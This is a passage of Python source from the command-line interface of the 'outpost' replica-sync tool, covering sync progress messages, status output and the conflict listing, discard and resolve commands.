    last = [0.0, 0.0]  # when a line was last printed; 1.0 once any was
    cut = [""]  # what was stored when the hub went away mid catch-up ("": it did not)
    sent = [-1.0, 0]  # when a "sending" line was last printed (-1: never), of how many edits

    def report(change: Any) -> None:
        if not change.status:
            return
        now = time.monotonic()
        st = sat.status()
        if st.sending[1] and (sent[0] < 0 or now - sent[0] >= every):
            # a long queue of edits going out (user review 13, F6: 6,000 edits, no word)
            line = f"sending: {st.sending[0]:,} of {st.sending[1]:,} edits"
            print(f"\r{line}\x1b[K" if tty else line, end="" if tty else "\n",
                  file=sys.stderr, flush=True)
            sent[:] = [now, st.sending[1]]
            last[1] = 1.0
        elif not st.sending[1] and sent[1]:
            if st.online:
                print(("\r" if tty else "") + f"sent: {plural(int(sent[1]), 'edit')}"
                      + ("\x1b[K" if tty else ""), file=sys.stderr, flush=True)
            sent[:] = [-1.0, 0]
        running = meter.update(st, now)
        if running and st.progress[0] and now - last[0] >= every:
            line = meter.detail(st)
            print(f"\r{line}\x1b[K" if tty else line, end="" if tty else "\n",
                  file=sys.stderr, flush=True)
            last[:] = [now, 1.0]
        elif not running and last[1] and meter.done:
            if st.online:
                print(("\r" if tty else "") + f"caught up: {meter.text()}"
                      + ("\x1b[K" if tty else ""), file=sys.stderr, flush=True)
                cut[0] = ""
            elif client.machine.phase == Phase.STOPPED:
                cut[0] = ""  # sync stopped for good: the command's error says why
                if tty:
                    print(file=sys.stderr, flush=True)
            elif client.timed_out_connected:  # --timeout ended it: the error says so
                cut[0] = ""
                print(("\r" if tty else "") + f"stopped at --timeout: {meter.text()}"
                      + ("\x1b[K" if tty else ""), file=sys.stderr, flush=True)
            else:  # the connection ended before the last reply: not caught up
                cut[0] = meter.text()
                print(("\r" if tty else "") + "outpost: the hub went away during the "
                      f"catch-up, after {cut[0]}: not caught up"
                      + ("\x1b[K" if tty else ""), file=sys.stderr, flush=True)
            last[1] = 0.0

    unlisten = sat.listen(report)
    try:
        await client.sync_once(timeout)
    except HubError as exc:
        if cut[0] and not client.refused and not client.timed_out_connected:
            raise HubError(
                f"{exc}; the hub went away during the catch-up ({cut[0]} received; "
                "what was stored is kept): check that the hub runs and is reachable from here, "
                "then run `outpost sync --once` again: it continues from there") from exc
        raise
    finally:
        unlisten()
        if last[1] and tty:
            print(file=sys.stderr, flush=True)  # leave the terminal's line


async def _sync_until_stopped(client: Any, sat: Satellite) -> bool:
    """``outpost sync`` without ``--once``: until Ctrl-C or SIGTERM (a clean stop: True)
    or the hub stops sync for good (False). Every change of connection state goes to
    stderr: a refused token or an unreachable hub is said once per change, not hidden."""
    loop = asyncio.get_running_loop()
    asked: list[int] = []

    def stop(sig: int) -> None:
        asked.append(sig)
        client.stop()

    for sig in (signal.SIGINT, signal.SIGTERM):
        with contextlib.suppress(NotImplementedError, RuntimeError):  # not on this platform
            loop.add_signal_handler(sig, stop, sig)
    said: list[tuple[bool, str]] = []
    fails = _Failures()
    online = [""]  # the last "online with" line
    # an "online with" line left unsaid while a failure repeated (back online between failed
    # tries): said once a sync is done again (the failure's words are cleared then), else
    # the output ended "still failing" though all was synced (ops review, session 12)
    unsaid = [False]
    # transactions rejected before this run are not news
    known = {r.uid for r in sat.receipts([ReceiptState.REJECTED])}

    def report(change: Any) -> None:
        # the sync machine's notices (Satellite.set_sync) and stored replies that changed
        # receipts (rejects); all on this thread
        if change.receipts:
            # one line per transaction rejected since the last notice (by the hub, or stored
            # rejected here: an edit too big for the hub), naming what and how to resolve it
            new = [r for r in sat.receipts([ReceiptState.REJECTED]) if r.uid not in known]
            known.update(r.uid for r in new)
            for r in new[:_MOST_LINES]:
                print(f"outpost: {rejection_line(r)}", file=sys.stderr, flush=True)
            if len(new) > _MOST_LINES:
                print(f"outpost: {len(new) - _MOST_LINES} more edits rejected: see "
                      "`outpost conflicts`", file=sys.stderr, flush=True)
        if not change.status or (change.records and not change.receipts):
            return
        info = client.machine.info
        # the hub's rejections are the lines above, not a change of connection state
        err = ("" if info.last_error.startswith((REJECTED_BY_HUB, NOT_SENT, OVERWROTE_ON_HUB))
               else info.last_error)
        if info.online and info.phase != Phase.LIVE and not err.startswith(HUB_DB_DOWN):
            # catching up: the error held is of before this connection ("cannot reach the
            # hub ..."), which going online just disproved; a current one (the hub lets the
            # user only read) is set again once caught up, and said then. The hub's own
            # database failing is of this connection: said now
            err = ""
        tried = fails.failed(info)
        # nothing pending any more is news too: the line of a connection that went online
        # with edits pending (said at once when the hub's database had just failed, session
        # 16) is followed by the one that says they are all sent. One count, not the whole
        # status, on every notice (the status is read below, only for a line said)
        now = (info.online, err,
               info.online and sat.queue.count(ReceiptState.PENDING) == 0)
        recovered = unsaid[0] and info.online and not fails.error
        if said and said[-1] == now and not (tried and not info.online) and not recovered:
            return  # a failed try again (unreachable): counted below, not a change
        said.append(now)
        st = sat.status()
        err = _short(err)
        if st.online:
            line = (f"outpost: online with {st.hub}: rev {format_rev(st.rev)}, "
                    f"{st.pending} pending, {_conflicts_text(st)}"
                    + (f"; {err}" if err else ""))
            if err.startswith(STORE_FAILED) or (fails.error and line == online[0]):
                # storing failed: the connection is dropped now, said as offline; back
                # online between failed tries (a full disk): nothing new yet
                unsaid[0] = True
                return
            online[0], unsaid[0] = line, False
            print(line, file=sys.stderr, flush=True)
        elif (err and tried and info.phase != Phase.STOPPED and not asked
              and not client.refused):
            # stopped by the hub (or a refused token): said once, at exit; by the user:
            # nothing to retry. A repeat of the same failure: a short line now and then
            line = fails.line(info.last_error)
            if line is not None:
                print(f"outpost: offline: {err} (retrying; Ctrl-C to stop)"
                      if fails.tries == 1 else f"outpost: {line}", file=sys.stderr,
                      flush=True)

    unlisten = sat.listen(report)
    try:
        # until stopped, or the hub refuses the token or the connection (HTTP 401, 403):
        # retrying cannot help
        await client.run_until(lambda: bool(client.refused), None)
    finally:
        unlisten()
    return bool(asked) or client.machine.info.phase != Phase.STOPPED


_MOST_ERRORS = 50
"""Most bad rows of a CSV an import names (then "and N more")."""
_MOST_LINES = 20
"""Most rejected transactions continuous sync names one line each per notice."""


def rejection_line(r: Receipt) -> str:
    """One line for a rejected transaction: its records, uid, why, and how to resolve it."""
    recs = list(dict.fromkeys(f"{a.top} {shown_key(a.key)}" for a in r.acts))
    what = ", ".join(recs[:3]) + (f" and {len(recs) - 3} more records" if len(recs) > 3
                                  else "")
    if is_put_aside(r):  # sent, its answer lost (a daql hub): nothing was rejected
        return (f"put aside {what} (uid {r.uid}): sent to the hub, but its answer was lost: "
                "the hub may or may not hold it; `outpost conflicts` shows your values and "
                f"the hub's, then `outpost resolve {r.uid} --keep mine` sends it again, "
                "--keep theirs drops it")
    if overwrote(r):  # applied by a daql hub over a colleague's change: on the hub
        theirs = "; ".join(
            (f"{c.top} {shown_key(c.key)}: " if len(recs) > 1 else "")
            + ", ".join(f"{f} {_short(json.dumps(v, ensure_ascii=False, default=str), 80)}"
                        for f, v in (c.theirs or {}).items())
            + (f" ({c.usr or 'someone'}, {format_rev(c.rev)})" if c.rev else "")
            for c in r.conflicts[:3])
        return (f"your edit of {what} (uid {r.uid}) overwrote a colleague's change on the "
                f"hub (a daql hub applied yours over it); theirs was {_short(theirs, 300)}; "
                f"`outpost resolve {r.uid} --keep mine` leaves yours, --keep theirs sends "
                "theirs back (`outpost conflicts` shows base, mine and theirs)")
    if r.conflicts:
        why = "; ".join(
            (f"{c.top} {shown_key(c.key)}: " if len(recs) > 1 else "") + c.reason + (
                ", ".join(f" ({', '.join(fs)})" + (f" by {u}" if u else "")
                          + (f" at {format_rev(rv)}" if rv else "") for rv, u, fs in c.groups())
                if c.by else (f" ({', '.join(c.fields)})" if c.fields else "")
                + (f" by {c.usr}" if c.usr else "") + (f" at {format_rev(c.rev)}" if c.rev
                                                       else ""))
            for c in r.conflicts[:3]) + (f"; {len(r.conflicts) - 3} more"
                                         if len(r.conflicts) > 3 else "")
    else:
        why = r.err or "rejected"
    clashed = {f"{c.top} {shown_key(c.key)}" for c in r.conflicts}
    here = refused_here(r)  # found here, never sent (a daql hub): not "rejected"
    if here:
        why = (f"{_short(why, 300)}; not sent: this hub (daql) does not check an edit "
               "against newer changes, and sending would have overwritten them")
    elif clashed and len(recs) > len(clashed):
        # e.g. a batch of `outpost import` rejected for one row: said, with what resolving does
        rest = len(recs) - len(clashed)
        why = (f"{_short(why, 300)}; the hub rejects a transaction whole, so its {rest} other "
               f"record{'s' if rest > 1 else ''} (which collided with nothing) were not "
               "applied either: keep mine sends them all again, keep theirs drops them all")
    return (f"{'conflict found here in' if here else 'rejected'} {what} (uid {r.uid}): "
            f"{_short(why, 500)}; to resolve: "
            f"`outpost resolve {r.uid} --keep mine|theirs"
            + ("|both" if any(c.reason == "created" for c in r.conflicts) else "")
            + "`"
            + (f", or field by field `outpost resolve {r.uid} --field FIELD=mine|theirs ...`"
               if any(c.fields for c in r.conflicts) else "")
            + " (`outpost conflicts` shows base, mine and theirs)")


def _short(text: str, most: int = 400) -> str:
    """``text`` on one line of at most ``most`` characters (a reply rejecting a thousand
    edits names every one)."""
    text = " ".join(text.split())
    return text if len(text) <= most else text[:most - 1] + "…"


def _conflicts_text(st: Any) -> str:
    """The status's conflicts in words: "1 conflict", and the edits put aside apart
    ("0 conflicts, 2 put aside": sent to a daql hub, the answer lost; no conflict)."""
    text = plural(st.conflicts, "conflict")
    return f"{text}, {st.put_aside} put aside" if st.put_aside else text


def _status_dict(st: Any) -> dict[str, Any]:
    return {
        "rev": format_rev(st.rev), "local_rev": format_rev(st.local_rev),
        "hub_rev": format_rev(st.hub_rev), "pending": st.pending, "conflicts": st.conflicts,
        # edits sent to a daql hub whose answer was lost (not in "conflicts"; the conflicts
        # inbox lists them, to send again or drop)
        "put_aside": st.put_aside,
        "online": st.online, "last_sync": format_rev(st.last_sync) if st.last_sync else None,
        "hub": st.hub, "mig": st.mig, "last_error": st.last_error,
        "ledger": st.ledger or None,  # the hub ledger the replica holds (None: not yet)
        "offline_mode": st.offline_mode,
        # False: a daql hub (docs/satellite.md, "Syncing with a daql hub"); None: not known
        "hub_confirms_edits": st.hub_confirms,
    }


def _holder_text(h: dict[str, Any] | None) -> str:
    """``status``'s holder in words (``--json`` keeps the object)."""
    if h is None:
        return "none (no process has this directory open)"
    text = f"pid {h['pid']} on {h['host']}, "
    text += "live" if h["live"] else f"not live ({h['why']})" if h["why"] else "not live"
    text += f", reported {h['reported']} ({h['age_s']:g} s ago)"
    if h["syncing"]:
        done, total = [*h["progress"], 0, 0][:2]
        text += (f", syncing: {done:,} of {plural(total, 'event')}" if total
                 else f", syncing: {plural(done, 'event')}" if done else ", syncing")
    return text


def _cmd_status(args: argparse.Namespace) -> int:
    def read(sat: Satellite) -> dict[str, Any]:
        st = sat.status()
        d = _status_dict(st)
        hv = sat.holder()
        d["since"] = format_rev(st.since) if hv is not None else None
        # the user's "Work offline" choice kept in the directory (the app opens it offline);
        # offline_mode is what the holder runs with now
        d["work_offline"] = sat.work_offline
        # what the hub said of this user: edits are refused here while it holds (with the fix)
        why = sat.read_only_reason()
        d["read_only"] = (f"{why}: edits are refused; `outpost discard --all` drops the "
                          f"pending ones" if why and st.pending else why) or None
        # the connection status is the one the process that has the directory open (the
        # app, `outpost sync`) recorded: how old it is, and whether that process still runs
        d["holder"] = None if hv is None else {
            "pid": hv.status.pid, "host": hv.status.host, "live": hv.live, "why": hv.why,
            "reported": format_rev(unix_rev(hv.status.written)), "age_s": round(hv.age, 1),
            "syncing": hv.status.syncing and hv.live, "progress": list(hv.status.progress)}
        # the edits the hub accepted and lacks as last seen (its file rolled back: session
        # 15): they show confirmed here, and only `carry --accepted` keeps them
        d["lost_by_hub"] = [{"uid": r.uid, "records": [f"{a.top} {a.key}" for a in r.acts]}
                            for r in sat.lost_by_hub()]
        # session 16: true when those are some of the edits the hub lost, maybe not all
        # (where its history parts from this replica's was not found); said in the text
        d["lost_by_hub_partial"] = sat.lost_partial
        return d

    d = read_settled(args, read)
    _out(args, d, "\n".join(
        f"{k}: {_status_text(k, v)}" + (LOST_PARTIAL if k == "lost_by_hub" and v
                                         and d.get("lost_by_hub_partial") else "")
        for k, v in d.items() if k != "lost_by_hub_partial"))
    return 0


LOST_PARTIAL = (
    "; AT LEAST these: earlier accepted edits may be lost too (where the hub's history "
    "parts from this replica's was not found: the connection was lost while looking, or "
    "the mark was made before session 16): `outpost sync --once` looks again; `outpost "
    "carry --accepted` keeps every one either way")
"""Said after ``lost_by_hub`` in ``status``'s text and by ``show`` when the marks are a lower
bound (``Satellite.lost_partial``)."""

_ZERO_TEXT = format_rev(ZERO_REV)
_STATUS_NOTES = {
    "mig": "the schema version",
    "offline_mode": "whether the open app or sync works offline now, by the user's choice",
    "work_offline": "the app's Work offline choice, kept here: it opens offline",
    "local_rev": "this replica's last own change",
    "hub_rev": "the hub's revision when last heard",
}
"""``status``'s keys that need a word beside their value in the text (firstday review 14:
``offline_mode``, ``work_offline`` and ``mig`` side by side, unexplained); ``--json`` keeps
the bare values."""


def _status_text(k: str, v: Any) -> str:
    """One value of ``status`` in words (``--json`` keeps the values): no revision yet is
    "none", no time "never", yes/no for true/false."""
    if k == "holder":
        return _holder_text(v)
    if k == "lost_by_hub":
        if not v:
            return "none"
        shown = ", ".join(f"{x['uid']} ({'; '.join(x['records'][:3])}"
                          f"{'; …' if len(x['records']) > 3 else ''})" for x in v[:5])
        more = f" and {len(v) - 5} more" if len(v) > 5 else ""
        return (f"{len(v)} edit{'s' if len(v) != 1 else ''} the hub accepted and lacks "
                f"(its file was rolled back): {shown}{more}; they show confirmed here: keep "
                "them with a new --data NEWDIR for the hub and `outpost carry DIR --data "
                "NEWDIR --accepted`")
    if k == "hub_confirms_edits":
        return ("yes" if v else "not known yet (no sync yet)" if v is None else
                "no (a daql hub): edits go one at a time, and one whose answer was lost is "
                "put aside among the conflicts, not sent again (it may have reached the hub)")
    if k in _STATUS_NOTES:  # a key only the --json names read well: said what it is
        return f"{_status_text('', v)} ({_STATUS_NOTES[k]})"
    if isinstance(v, bool):
        return "yes" if v else "no"
    if v == _ZERO_TEXT:
        return "none yet"
    if v is None or v == "":
        return "never" if k in ("last_sync", "since") else "none"
    return str(v)


def _exists(sat: Satellite, top: str, key: str) -> bool:
    """A record of ``top`` has the key ``key`` exactly (replica, pending queue, or history:
    one deleted since)."""
    return sat.record(top, key) is not None or bool(sat.history(top, key))


def _typed_key(sat: Satellite, top: str, text: str, what: str, fix: str) -> str:
    """A record's key as typed: as is when a record has that very key (one made before keys
    were cleaned: " k1" is then not k1, and "  " a key of its own, not an empty one), else
    as :func:`_typed` cleans it (refusing one left empty). The exact key is looked for
    first: `show`/`history` refused a key of only spaces before opening the satellite, so
    such a record could not be shown."""
    if clean_key(text) != text and sat.project.has(top) and _exists(sat, top, text):
        return text
    return _canonical(sat, top, _typed(text, what, fix))


def _canonical(sat: Satellite, top: str, key: str) -> str:
    """``key`` in its model's canonical form (an int key "002" is "2": keys are text, so it
    would be a second record), unless a record has that very key (made before such keys were
    refused: it stays reachable)."""
    if not sat.project.has(top):
        return key
    canon = sat.project.model(top).canonical_key(key)
    if canon != key and not _exists(sat, top, key):
        return canon
    return key


def _typed(text: str, what: str, fix: str) -> str:
    """A key or uid as the user typed it, without the spaces and invisible characters around
    it (:func:`core.ids.clean_key`, as a CSV's keys: " k1" and "k1\u200b" are k1)."""
    key = clean_key(text)
    if not key:
        raise ConfigError(f"the {what} {text!r} is empty once the spaces and invisible "
                          f"characters around it are left out: {fix}")
    return key


def _cmd_show(args: argparse.Namespace) -> int:
    def read(sat: Satellite) -> tuple[list[RecordView], frozenset[str], bool, frozenset[str]]:
        has = sat.project.has(args.topic)
        lost = sat.lost_keys(args.topic) if has else frozenset()
        maybe = sat.maybe_lost_keys(args.topic) - lost if has else frozenset()
        if args.key is None:
            return sat.records(args.topic), lost, sat.lost_partial, maybe
        key = _typed_key(sat, args.topic, args.key, "key", "give a key, or none")
        rv = sat.record(args.topic, key)
        if rv is None or rv.fields is None:
            raise ValidationError(f"no record {args.topic} {key}: see "
                                  f"`outpost show {args.topic}` for the keys")
        return [rv], lost, sat.lost_partial, maybe

    views, lost, partial, maybe = read_settled(args, read)
    if partial:
        # the marks are a lower bound: a record shown confirmed may be lost on the hub too
        shown = {v.key for v in views} & maybe
        keys = sorted(shown, key=str)
        print(f"outpost: records marked `lost by hub`{LOST_PARTIAL}" + (
            f"; shown confirmed but maybe lost too: {', '.join(shown_key(k) for k in keys[:10])}"
            f"{f' and {len(keys) - 10} more' if len(keys) > 10 else ''}" if keys else ""),
            file=sys.stderr)
    # "lost by hub": a change the hub accepted and lacks since its file was rolled back
    # (session 15; `outpost status` names the edits, `carry --accepted` keeps them)
    rows = [{"key": v.key, "state": "conflict" if v.conflict else
             "pending" if v.pending else "lost by hub" if v.key in lost else "confirmed",
             "fields": dict(v.fields or {})} for v in views]
    _out(args, rows if args.key is None else rows[0],
         "\n".join(f"{shown_key(r['key'])}\t{r['state']}\t"
                   f"{json.dumps(r['fields'], ensure_ascii=False)}"
                   for r in rows))
    return 0


def _cmd_history(args: argparse.Namespace) -> int:
    from core.satellite.conflicts import history_notes

    def read(sat: Satellite) -> tuple[list[Any], dict[Any, str]]:
        key = _typed_key(sat, args.topic, args.key, "key", "give a key")
        hist = sat.history(args.topic, key)
        if not hist and sat.record(args.topic, key) is None:
            # as `show`: a key never seen is an error, not an empty history (a record made
            # offline and not synced yet has none either, but it exists)
            raise ValidationError(f"no record {args.topic} {key}: see "
                                  f"`outpost show {args.topic}` for the keys")
        return hist, history_notes(sat, args.topic, key, hist)

    hist, notes = read_settled(args, read)
    # what the history says beside a change (an edit settled by itself, the user's own
    # resolution): session 14, said only by `outpost conflicts` and the audit before
    rows: list[dict[str, Any]] = [
        {"rev": format_rev(h.rev), "usr": h.usr, "cmd": h.cmd.value, "fields": list(h.fields),
         "arg": h.arg, "note": notes.get(h.rev)} for h in hist]
    _out(args, rows, "\n".join(f"{format_rev(h.rev)}\t{h.usr or '-'}\t{h.cmd.value}\t"
                               f"{','.join(h.fields)}"
                               + (f"\t{notes[h.rev]}" if h.rev in notes else "")
                               for h in hist))
    return 0


_OWN_SINCE = {"deleted": "deleted it", "created": "created it again"}
"""How ``outpost conflicts`` says the user's own later change of a record (else "changed it")."""


def _cmd_conflicts(args: argparse.Namespace) -> int:
    from core.satellite.conflicts import (
        SETTLED,
        WHOLE,
        Own,
        aside_arrived,
        conflict_fields,
        explain,
        explain_aside,
        last_changes,
        latest_settled,
        own_of,
        since_sentences,
    )
    from core.satellite.prefetch import Prefetched

    def read(sat: Satellite) -> tuple[Rev, list[tuple[Any, list[Any]]], Own, str]:
        # base / mine / theirs per field: the same function as the app's conflicts view; the
        # revision first, so what is shown is at least that new (resolve --seen takes it);
        # while the hub lets the user only read, every pending edit is stuck: listed too
        seen = sat.rev()
        why = sat.read_only_reason()
        listed = [r for r in sat.receipts([ReceiptState.REJECTED, ReceiptState.PENDING])
                  if r.state == ReceiptState.REJECTED or r.err or why]
        # their records read at once, not 4-10 reads per conflict (session 13)
        reads = Prefetched(sat, listed) if listed else sat
        recs = [(r if r.err or not why else replace(r, err=why), conflict_fields(reads, r))
                for r in listed]
        own = own_of(sat, (c.rev for r, _ in recs for c in r.conflicts)) if recs else Own()
        return seen, recs, own, why

    def words(sat: Satellite) -> tuple[Rev, list[tuple[Any, list[Any]]], Own, str,
                                        dict[str, list[str]], set[str],
                                        list[tuple[Any, Any]]]:
        seen, recs, own, why = read(sat)
        # a put-aside edit (sent, answer lost): what it did and what the hub holds now
        aside = {r.uid: explain_aside(
            sat, r, send=f"send it again (`outpost resolve {r.uid} --keep mine`)",
            drop=f"drop it (`outpost resolve {r.uid} --keep theirs`)")
            for r, _ in recs if is_put_aside(r)}
        arrived = {r.uid for r, _ in recs if r.uid in aside and aside_arrived(sat, r)}
        return seen, recs, own, why, aside, arrived, settled_of(sat)

    def settled_of(sat: Satellite) -> list[tuple[Any, Any]]:
        # the latest edits settled by themselves (user review 13 F4: both set lon to 9.9):
        # said, not asked, with what was sent of them (their resolution's receipt)
        return list(latest_settled(sat, _SETTLED_SHOWN))

    seen, recs, own, why, aside, arrived, settled = read_settled(args, words)
    said = {r.uid: aside.get(r.uid) or explain(r, own=own, last=last_changes(fields))
            + since_sentences(fields) for r, fields in recs}
    for r, _ in recs:
        if r.state == ReceiptState.PENDING:  # what can be done: discard (resolve is refused)
            said[r.uid] = [*said[r.uid], f"`outpost discard {r.uid}` drops it"
                           + (" (the hub will never take it)" if why else "")]
    rows = [{"uid": r.uid, "state": r.state.value, "err": r.err, "explain": said[r.uid],
             "put_aside": r.uid in aside, "hub_has_it": r.uid in arrived,
             "overwrote": overwrote(r),
             "seen": format_rev(seen),
             "resolves": r.resolves or None,
             "records": [f"{a.top} {a.key}" for a in r.acts],
             "conflicts": [{"top": c.top, "key": c.key, "reason": c.reason,
                            "fields": list(c.fields), "theirs": c.theirs, "usr": c.usr,
                            "by": {f: {"rev": format_rev(rv), "usr": u}
                                   for f, (rv, u) in c.by.items()} if c.by else None}
                           for c in r.conflicts],
             "fields": [{"top": f.top, "key": f.key, "field": f.field or None,
                         "base": f.base, "mine": f.mine, "theirs": f.theirs, "usr": f.usr,
                         "rev": format_rev(f.rev) if f.rev else None, "reason": f.reason,
                         "conflict": f.conflict, "same": f.same,
                         "theirs_only": f.theirs_only,
                         "since": f.since or None,
                         "since_usr": f.since_usr or None,
                         "since_rev": format_rev(f.since_rev) if f.since_rev else None,
                         "since_own": f.own_since or None,
                         "since_own_rev": (format_rev(f.own_since_rev) if f.own_since_rev
                                           else None),
                         "last_usr": f.last_usr or None,
                         "last_rev": format_rev(f.last_rev) if f.last_rev else None}
                        for f in fields]}
            for r, fields in recs]

    def settled_text(r: Any, by: Any) -> str:
        same = ", ".join(f"{c.top} {shown_key(c.key)} " + ", ".join(
            f"{f} {_shown((c.theirs or {}).get(f))}" for f in c.fields) for c in r.conflicts)
        sent = (f"; your other changes sent as transaction {by.uid} ("
                + ", ".join(f"{a.top} {shown_key(a.key)} " + ", ".join(a.arg or ())
                            for a in by.acts) + ")"
                if by is not None else "; nothing else to send: dropped")
        return f"{r.uid}\t{SETTLED} ({same}){sent}"

    rows += [{"uid": r.uid, "state": r.state.value, "settled": SETTLED,
              "resolved_by": r.resolved_by, "records": [f"{a.top} {a.key}" for a in r.acts],
              "explain": [settled_text(r, by).partition("\t")[2]]} for r, by in settled]

    def line(f: Any) -> str:
        what = f"{f.top} {shown_key(f.key)} " + (f"{f.field}" if f.field != WHOLE
                                                 else "(whole record)")
        if f.reason == ASIDE:  # sent, answer lost: the edit's value, the hub's now
            return f"  {what}: mine {_shown(f.mine)} | hub now {_shown(f.theirs)}"
        # a record created under a taken key and changed after: who changed theirs last
        then = (f", last changed by {f.last_usr or 'someone'} at {format_rev(f.last_rev)}"
                if f.last_rev else "")
        if f.theirs_only:  # their record's field my edit does not set: keep mine keeps it
            return (f"  {what}: base {_shown(f.base)} | mine (not set) | theirs "
                    f"{_shown(f.theirs)} (only theirs has it: keep mine leaves it)")
        by = (" (no conflict)" if not f.conflict else " (identical: no choice needed)"
              if f.same else f" ({f.reason}" + (
            f" by {f.usr}" if f.usr else "") + (f" at {format_rev(f.rev)}" if f.rev else "")
            + then + ")") + (f" ({f.since} since, by {f.since_usr or 'someone'} at "
                      f"{format_rev(f.since_rev)})" if f.since else "") + (
            f" (you {_OWN_SINCE.get(f.own_since, 'changed it')} since, at "
            f"{format_rev(f.own_since_rev)})" if f.own_since else "")
        return (f"  {what}: base {_shown(f.base)} | mine {_shown(f.mine)} | "
                f"theirs {_shown(f.theirs)}{by}")

    def block(r: Any, fields: list[Any]) -> str:
        # what happened in words, then every field of the edit: keep theirs drops them all
        head = (f"{r.uid}\tput aside\tsent to the hub, but its answer was lost" + (
                    "; the hub has it: drop it to finish" if r.uid in arrived
                    else ": the hub may or may not hold it")
                if r.uid in aside else f"{r.uid}\toverwrote\t{r.err}" if overwrote(r)
                else f"{r.uid}\t{r.state.value}\t{r.err}")
        return "\n".join([head,
                          *(f"  * {_short(t, 600)}" for t in said[r.uid]),
                          *(line(f) for f in fields)])

    text = "\n".join(block(r, fields) for r, fields in recs)
    if text:
        text += (f"\n(as of revision {format_rev(seen)}: `outpost resolve UID --keep mine "
                 f"--seen {format_rev(seen)}` resolves on what is shown here)")
    if settled:
        text = "\n".join([text or "no conflicts", "settled by themselves (latest "
                           f"{_SETTLED_SHOWN}):", *(f"  {settled_text(r, by)}"
                                                    for r, by in settled)])
    _out(args, rows, text or "no conflicts")
    return 0


_SETTLED_SHOWN = 5
"""How many of the latest edits settled by themselves `outpost conflicts` names."""


def _cmd_discard(args: argparse.Namespace) -> int:
    if bool(args.uid) == bool(args.all):
        raise ConfigError("give the uids of the edits to discard (`outpost conflicts` lists "
                          "them), or --all")
    uids = [_typed(u, "uid", "give the uid `outpost conflicts` shows") for u in args.uid]
    sat = _open(args)
    done: list[str] = []
    try:
        if args.all:
            read_only = bool(sat.read_only_reason())
            uids = [r.uid for r in sat.receipts([ReceiptState.PENDING])
                    if read_only or r.err]
        for uid in uids:
            try:
                sat.discard(uid)
            except OutpostError as exc:
                if done:
                    raise type(exc)(f"{exc} (discarded before it: {', '.join(done)})") from exc
                raise
            done.append(uid)
        left = sat.status().pending
    finally:
        sat.close()
    _out(args, {"discarded": done},
         "\n".join(f"discarded {u}" for u in done) or _nothing_discarded(left))
    return 0


def _nothing_discarded(left: int) -> str:
    """``discard`` that found nothing to discard, ``left`` edits pending: why."""
    if not left:
        return "nothing to discard"
    return (f"nothing to discard: the {plural(left, 'pending edit')} may be on "
            f"{'its' if left == 1 else 'their'} way to the hub (--all discards only edits the "
            "hub refused, or every pending edit of a user who may only read); `outpost sync "
            "--once` sends them")


def _shown(value: Any) -> str:
    """A value of the conflicts list: JSON (a text quoted, an empty field null), cut short."""
    return _short(json.dumps(value, ensure_ascii=False, default=str), 200)


def _cmd_resolve(args: argparse.Namespace) -> int:
    if bool(args.uid) == bool(args.all):
        raise ConfigError("give the uid of the edit to resolve (`outpost conflicts` lists "
                          "them), several with --keep mine|theirs, or --all")
    if args.all or len(args.uid) > 1:
        return _resolve_many(args)
    uid = _typed(args.uid[0], "uid", "give the uid `outpost conflicts` shows")
    if args.field:
        if args.keep or args.key:
            raise ConfigError("--field chooses per field, --keep for the whole edit: give "
                              "one of them (and --key only with --keep both)")
        return _resolve_fields(args, uid)
    if args.keep is None:
        raise ConfigError("say what to keep: --keep mine|theirs|both, or per field --field "
                          "FIELD=mine|theirs (`outpost conflicts` lists the fields)")
    keep = Keep(args.keep)
    if args.key and keep != Keep.BOTH:
        raise ConfigError("--key gives the new key of --keep both: add --keep both, or "
                          "leave --key out")
    seen = _seen(args)
    sat = _open(args)
    try:
        taken = sat.both_keys(uid)  # refuses what resolve refuses, with its words
        rec = sat.receipt(uid)
        aside = rec is not None and is_put_aside(rec)  # sent, its answer lost
        over = rec is not None and overwrote(rec)  # on the hub, over a colleague's change
        taken_only = _theirs_only(sat, rec) if keep == Keep.MINE and taken else {}
        keys = _both_keys(args.key, taken, sat.project) if keep == Keep.BOTH else None
        if keys is not None:
            keys = {**taken, **keys}  # the keys said are the keys used (not drawn again)
        new = sat.resolve(uid, keep, keys=keys, seen=seen)
        later = sat.later_edits(uid, keys) if keep == Keep.BOTH and keys else {}
    finally:
        sat.close()
    out: dict[str, Any] = {"uid": uid, "resolved_by": new or _nothing_sent(keep)}
    text = _resolved_line(out, keep)
    if over:
        out["overwrote"] = True
        out["resolved_by"] = new or "mine"
        text = (f"resolved {uid}: theirs sent back as {new}" if new else
                f"resolved {uid}: kept yours (on the hub already, nothing sent)")
    elif aside:
        out["put_aside"] = True
        out["sent_again"] = bool(new)
        text = (f"resolved {uid}: sent again as {new}" if new else
                f"resolved {uid}: dropped" + (
                    " (nothing to send again: the hub holds your values)"
                    if keep == Keep.MINE else ""))
    elif keep == Keep.BOTH and keys:
        out["new_keys"] = keys
        out["later_edits"] = later
        text += "".join(f"\n  {sig}: yours is now {sig.split(' ', 1)[0]} {k} (theirs kept "
                        f"under {sig.split(' ', 1)[1]})" for sig, k in keys.items())
        # edits of the record saved apart after this one stay on the key: theirs now
        text += "".join(
            f"\n  {sig}: {plural(len(us), 'later edit')} of it you saved apart "
            f"({', '.join(us)}) did not move: {'they are' if len(us) > 1 else 'it is'} on "
            f"their record {sig}, not yours; check it (`outpost history {sig}`) and make "
            f"{'them' if len(us) > 1 else 'it'} again on {sig.split(' ', 1)[0]} {keys[sig]} "
            "if meant for yours" for sig, us in later.items())
    elif keep == Keep.MINE and taken:
        out["replaced"] = list(taken)
        text += "".join(f"\n  {sig}: your values were set on the record someone else "
                        "created under this key" + (
                            f"; what only it had stays ({', '.join(taken_only[sig])})"
                            if taken_only.get(sig) else "")
                        + " (one record is left; --keep both would have kept both)"
                        for sig in taken)
    _out(args, out, text)
    return 0


def _resolve_many(args: argparse.Namespace) -> int:
    """``resolve UID UID ... --keep mine|theirs`` or ``resolve --all --keep ...``: each edit
    as ``resolve UID --keep`` does it, in queue order, in one run (session 13: 1,092 conflicts
    took 1,092 runs) and one local commit (``Satellite.resolve_many``, session 14: each edit
    had its own, ~10 ms). All or nothing: the first that cannot be resolved is named and
    none is resolved (session 13: those before it stayed resolved)."""
    if args.field or args.key or args.keep not in ("mine", "theirs"):
        raise ConfigError("several edits (or --all) are resolved whole, with --keep mine or "
                          "--keep theirs; keep both and per-field choices (--field, --key) "
                          "take one uid at a time")
    keep = Keep(args.keep)
    uids = [_typed(u, "uid", "give the uids `outpost conflicts` shows") for u in args.uid]
    seen = _seen(args)
    sat = _open(args)
    done: list[dict[str, Any]] = []
